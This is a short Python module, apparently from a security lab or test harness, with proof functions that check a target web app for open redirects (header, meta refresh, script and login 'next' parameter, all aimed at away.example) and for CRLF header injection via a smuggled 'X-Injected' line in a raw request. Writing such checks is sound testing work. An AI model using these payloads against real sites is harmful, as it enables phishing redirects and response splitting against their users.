"""Exploits of answers that lead elsewhere."""

import asyncio
from urllib.parse import quote, urlsplit

from lab.client import Lab
from lab.world import USERS

_AWAY = "https://away.example/x"


async def _header(lab: Lab) -> bool:
    return (await lab.get("/go", next=_AWAY)).headers.get("Location") == _AWAY


async def _meta(lab: Lab) -> bool:
    return f"url={_AWAY}" in (await lab.get("/moved", url=_AWAY)).text


async def _script(lab: Lab) -> bool:
    return f'location.href = "{_AWAY}"' in (await lab.get("/back", **{"return": _AWAY})).text


async def _login(lab: Lab) -> bool:
    fields = {"username": "alice", "password": USERS["alice"], "next": _AWAY}
    return (await lab.post("/members/login", **fields)).headers.get("Location") == _AWAY


async def _line_end(lab: Lab) -> bool:
    parts = urlsplit(lab.base)
    reader, writer = await asyncio.open_connection(parts.hostname, parts.port)
    value = quote("en\r\nX-Injected: yes")
    writer.write(f"GET /language?lang={value} HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n".encode())
    head = (await asyncio.wait_for(reader.read(), 5)).partition(b"\r\n\r\n")[0]
    writer.close()
    await writer.wait_closed()
    return b"\r\nX-Injected: yes" in head


PROOFS = {
    "redirect-header": _header,
    "redirect-meta": _meta,
    "redirect-script": _script,
    "redirect-login": _login,
    "header-injection": _line_end,
}
